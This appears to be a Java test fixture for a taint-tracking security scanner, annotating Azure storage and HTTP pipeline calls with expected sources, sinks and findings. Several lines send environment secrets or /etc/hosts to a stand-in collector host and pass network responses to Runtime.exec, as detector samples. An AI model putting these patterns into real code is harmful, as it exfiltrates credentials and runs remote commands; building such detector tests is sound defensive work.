// Azure: clients of its storage by way of their builders, uploads of files, and the HTTP pipeline that its clients are built on.
package app;

import com.azure.core.http.*;
import com.azure.storage.blob.*;
import com.azure.storage.blob.options.BlobUploadFromFileOptions;
import java.net.URL;

class Azure {
    void service() {
        var client = new BlobServiceClientBuilder().connectionString("x").buildClient().getBlobContainerClient("c").getBlobClient("n");
        new BlobServiceClientBuilder().connectionString("x").buildClient().getBlobContainerClient("c").getBlobClient("n").upload("x"); //~ ok
        client.upload(System.getenv("T")); //~ source(ENVIRONMENT) f1, sink(egress.cloud) f1, finding(traced) f1
        client.upload("x"); //~ ok
    }

    void container() {
        var client = new BlobContainerClientBuilder().buildAsyncClient().getBlobAsyncClient("n");
        client.upload(System.getenv("T")); //~ source(ENVIRONMENT) f2, sink(egress.cloud) f2, finding(traced) f2
        client.upload("x"); //~ ok
    }

    void blob() {
        var client = new BlobClientBuilder().buildClient().getBlockBlobClient();
        client.upload(System.getenv("T")); //~ source(ENVIRONMENT) f3, sink(egress.cloud) f3, finding(traced) f3
        new BlobClientBuilder().buildClient().getBlockBlobClient().upload("x"); //~ ok
    }

    void file(BlobAsyncClient client) {
        var options = new BlobUploadFromFileOptions("/etc/hosts"); //~ source(FILE) f4
        client.uploadFromFileWithResponse(options); //~ sink(egress.cloud) f4, finding(traced) f4, capability(NETWORK), capability(FILES)
        client.uploadFromFileWithResponse(null); //~ ok
        new BlobUploadFromFileOptions("/etc/hosts"); //~ ok
    }

    void request(HttpPipeline pipeline) {
        pipeline.send(new HttpRequest(HttpMethod.POST, "https://azure.collector.example/?t=" + System.getenv("T"))); //~ source(ENVIRONMENT) f5, sink(egress.http) f5, finding(traced) f5, capability(NETWORK), endpoint("azure.collector.example")
        HttpRequest request = new HttpRequest(HttpMethod.POST, "https://azure.collector.example/").setBody(System.getenv("U")); //~ source(ENVIRONMENT) f6
        pipeline.send(request); //~ sink(egress.http) f6, finding(traced) f6
        HttpRequest moved = new HttpRequest(HttpMethod.POST, "https://azure.collector.example/");
        moved.setUrl(new URL(System.getenv("V"))); //~ source(ENVIRONMENT) f7
        pipeline.send(moved); //~ sink(egress.http) f7, finding(traced) f7
        pipeline.send(new HttpRequest(HttpMethod.GET, "https://azure.collector.example/").setBody("x").setUrl("https://azure.collector.example/")); //~ ok
    }

    void response(HttpPipeline pipeline) {
        HttpRequest request = new HttpRequest(HttpMethod.POST, "https://azure.collector.example/", null, System.getenv("W")); //~ source(ENVIRONMENT) f8
        HttpResponse response = pipeline.sendSync(request); //~ sink(egress.http) f8, finding(traced) f8, source(NETWORK) f9
        Runtime.getRuntime().exec(response.getHeaderValue("c")); //~ sink(exec.command) f9, finding(traced) f9
        Runtime.getRuntime().exec("x" + response.getStatusCode()); //~ ok
        Runtime.getRuntime().exec("x" + (response.getHeaderValue("c") == null)); //~ ok
        Runtime.getRuntime().exec("x" + (pipeline.sendSync(null) == null)); //~ ok
    }

    void read(HttpPipeline pipeline, HttpRequest request) {
        String body = pipeline.sendSync(request).getBodyAsString().block(); //~ source(NETWORK) f11
        Runtime.getRuntime().exec(body); //~ sink(exec.command) f11, finding(traced) f11
        Runtime.getRuntime().exec("x" + (pipeline.sendSync(request).getBodyAsString() == null)); //~ ok
    }

    void awaited(HttpPipeline pipeline, HttpRequest request) {
        String body = pipeline.send(request).flatMap(response -> response.getBodyAsString()).block(); //~ source(NETWORK) f10
        Runtime.getRuntime().exec(body); //~ sink(exec.command) f10, finding(assumed) f10
    }
}
